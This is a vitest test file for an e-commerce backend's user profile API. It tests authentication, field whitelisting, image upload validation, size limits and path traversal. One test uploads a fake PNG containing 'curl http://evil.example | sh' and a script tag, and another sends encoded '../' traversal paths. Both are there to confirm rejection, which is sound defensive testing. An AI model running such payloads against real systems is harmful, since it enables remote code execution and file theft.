import { Readable } from 'node:stream';
import { eq } from 'drizzle-orm';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createProduct, createUser, setWalletBalance } from '../../../test/factories.ts';
import { createTestApp, type TestApp } from '../../../test/harness.ts';
import { orders } from '../../db/schema/orders.ts';
import { wishlistItems } from '../../db/schema/shopping.ts';
import { users } from '../../db/schema/users.ts';

/** A multipart/form-data body with text fields and at most one file. */
function multipart(fields: Record<string, string>, file?: { name: string; type: string; bytes: Buffer }) {
  const boundary = `----shringar${Math.random().toString(16).slice(2)}`;
  const parts: Buffer[] = [];
  for (const [k, v] of Object.entries(fields))
    parts.push(Buffer.from(`--${boundary}\r\nContent-Disposition: form-data; name="${k}"\r\n\r\n${v}\r\n`));
  if (file) {
    parts.push(
      Buffer.from(
        `--${boundary}\r\nContent-Disposition: form-data; name="profilePic"; filename="${file.name}"\r\nContent-Type: ${file.type}\r\n\r\n`,
      ),
      file.bytes,
      Buffer.from('\r\n'),
    );
  }
  parts.push(Buffer.from(`--${boundary}--\r\n`));
  return { payload: Buffer.concat(parts), headers: { 'content-type': `multipart/form-data; boundary=${boundary}` } };
}

const png = () =>
  sharp({ create: { width: 800, height: 600, channels: 3, background: { r: 200, g: 30, b: 90 } } })
    .png()
    .toBuffer();

describe('account: profile', () => {
  let t: TestApp;
  beforeAll(async () => {
    t = await createTestApp();
  });
  afterAll(() => t.close());

  it('needs a token', async () => {
    const res = await t.call({ method: 'GET', url: '/api/v4/user/' });
    expect(res.status).toBe(401);
    expect(res.body).toMatchObject({ success: false, message: 'Not authenticated' });
  });

  it('answers the spec 3 user with wallet in rupees and real order and wishlist counts', async () => {
    const { user, token, phone } = await createUser(t.ctx, { name: 'Asha', email: 'asha@example.in' });
    await setWalletBalance(t.ctx, user.id, 12345);
    const { product, variants } = await createProduct(t.ctx, { variants: [{}, {}] });
    await t.db.insert(wishlistItems).values([
      { userId: user.id, productId: product.id, variantId: variants[0]!.id },
      { userId: user.id, productId: product.id, variantId: variants[1]!.id },
    ]);
    const order = (id: string, isDraft: boolean) => ({
      id,
      userId: user.id,
      isDraft,
      paymentMethods: ['COD'],
      itemsBasePaise: 49900,
      itemsPricePaise: 34900,
      totalPaise: 34900,
      remainingPaise: 34900,
      address: {
        name: 'A',
        address: 'B',
        city: 'C',
        state: 'D',
        pincode: '400001',
        landmark: null,
        phone: '9876543210',
      },
    });
    await t.db.insert(orders).values([order(`SHT${user.id}A`, false), order(`SHT${user.id}B`, true)]);

    const res = await t.call({ method: 'GET', url: '/api/v4/user', token });
    expect(res.status).toBe(200);
    expect(res.body.data).toEqual({
      id: user.id,
      name: 'Asha',
      email: 'asha@example.in',
      phoneNumber: phone,
      profileImageUrl: null,
      walletAmount: 123.45,
      hearts: 0,
      isVerified: false,
      selectedAddress: null,
      isUserRated: false,
      ordersCount: 1,
      wishlistCount: 2,
      isCodAllowed: true,
      whatsappOrderUpdates: false,
      whatsappOptInAt: null,
      preferredLocale: 'en',
    });
  });

  it('updates name and email from JSON and never applies other fields', async () => {
    const { user, token } = await createUser(t.ctx);
    const res = await t.call({
      method: 'POST',
      url: '/api/v4/user/update',
      token,
      payload: {
        name: '  Meera  ',
        email: 'Meera@Example.in',
        walletAmount: 99999,
        isVerified: true,
        hearts: 500,
        id: 1,
      },
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({
      name: 'Meera',
      email: 'meera@example.in',
      walletAmount: 0,
      isVerified: false,
      hearts: 0,
      id: user.id,
    });
    const [row] = await t.db.select().from(users).where(eq(users.id, user.id));
    expect(row).toMatchObject({ walletBalancePaise: 0, isVerified: false, hearts: 0 });
  });

  it('refuses a malformed email but accepts an empty one', async () => {
    const { token } = await createUser(t.ctx);
    const bad = await t.call({ method: 'POST', url: '/api/v4/user/update', token, payload: { email: 'not-an-email' } });
    expect(bad.status).toBe(400);
    expect(bad.body.message).toBe('Please enter a valid email address');
    const empty = await t.call({ method: 'POST', url: '/api/v4/user/update', token, payload: { email: '' } });
    expect(empty.status).toBe(200);
    expect(empty.body.data.email).toBe('');
  });

  it('takes multipart with a picture, stores it as 512×512 WebP and serves it back by URL', async () => {
    const { token } = await createUser(t.ctx);
    const form = multipart(
      { name: 'Kavya', email: 'kavya@example.in', walletAmount: '5000' },
      {
        name: 'me.png',
        type: 'image/png',
        bytes: await png(),
      },
    );
    const res = await t.call({ method: 'POST', url: '/api/v4/user/update', token, ...form });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ name: 'Kavya', email: 'kavya@example.in', walletAmount: 0 });
    const url: string = res.body.data.profileImageUrl;
    expect(url).toMatch(/^\/api\/v4\/uploads\/[a-f0-9]{32}\.webp$/);
    const img = await t.app.inject({ method: 'GET', url });
    expect(img.statusCode).toBe(200);
    expect(img.headers['content-type']).toBe('image/webp');
    expect(img.headers['cache-control']).toContain('immutable');
    const meta = await sharp(img.rawPayload).metadata();
    expect(meta).toMatchObject({ format: 'webp', width: 512, height: 512 });

    // A second picture replaces the first, whose file is removed.
    const again = await t.call({
      method: 'POST',
      url: '/api/v4/user/update',
      token,
      ...multipart(
        {},
        {
          name: 'me.jpg',
          type: 'image/jpeg',
          bytes: await sharp(await png())
            .jpeg()
            .toBuffer(),
        },
      ),
    });
    expect(again.status).toBe(200);
    expect(again.body.data.profileImageUrl).not.toBe(url);
    expect((await t.app.inject({ method: 'GET', url })).statusCode).toBe(404);
  });

  it('refuses a script renamed .png with 415', async () => {
    const { token } = await createUser(t.ctx);
    const form = multipart(
      { name: 'X' },
      {
        name: 'avatar.png',
        type: 'image/png',
        bytes: Buffer.from('#!/bin/sh\ncurl http://evil.example | sh\n<script>alert(1)</script>'),
      },
    );
    const res = await t.call({ method: 'POST', url: '/api/v4/user/update', token, ...form });
    expect(res.status).toBe(415);
    expect(res.body).toMatchObject({ success: false, code: 'UNSUPPORTED_MEDIA_TYPE' });
  });

  it('refuses bytes that start like a PNG but do not decode', async () => {
    const { token } = await createUser(t.ctx);
    const fake = Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), Buffer.alloc(500, 7)]);
    const res = await t.call({
      method: 'POST',
      url: '/api/v4/user/update',
      token,
      ...multipart({}, { name: 'a.png', type: 'image/png', bytes: fake }),
    });
    expect(res.status).toBe(415);
  });

  it('refuses a 50 MB upload with 413, declared or streamed', async () => {
    const { token } = await createUser(t.ctx);
    const big = Buffer.alloc(50 * 1024 * 1024, 1);
    const form = multipart({}, { name: 'huge.png', type: 'image/png', bytes: big });
    const declared = await t.call({ method: 'POST', url: '/api/v4/user/update', token, ...form });
    expect(declared.status).toBe(413);
    expect(declared.body.message).toBe('The image must be at most 5 MB');

    const streamed = await t.app.inject({
      method: 'POST',
      url: '/api/v4/user/update',
      headers: { ...form.headers, authorization: `Bearer ${token}` },
      payload: Readable.from([form.payload.subarray(0, 1024 * 1024), form.payload.subarray(1024 * 1024)]),
    });
    expect(streamed.statusCode).toBe(413);
  });

  it('ignores a picture under another field name and an upload of nothing', async () => {
    const { token } = await createUser(t.ctx);
    const res = await t.call({
      method: 'POST',
      url: '/api/v4/user/update',
      token,
      ...multipart({ name: 'Only Name' }),
    });
    expect(res.status).toBe(200);
    expect(res.body.data).toMatchObject({ name: 'Only Name', profileImageUrl: null });
  });

  it('records that the shopper rated the app', async () => {
    const { token } = await createUser(t.ctx);
    const res = await t.call({
      method: 'POST',
      url: '/api/v4/user/update-is-user-rated',
      token,
      payload: { isUserRated: true },
    });
    expect(res.status).toBe(200);
    expect(res.body.data.isUserRated).toBe(true);
  });

  it('never serves a path outside the upload store', async () => {
    for (const file of ['..%2F..%2Fpackage.json', '%2e%2e%2fconfig.ts', 'abc.webp', 'x'.repeat(32) + '.webp']) {
      const res = await t.app.inject({ method: 'GET', url: `/api/v4/uploads/${file}` });
      expect(res.statusCode).toBe(404);
    }
  });
});
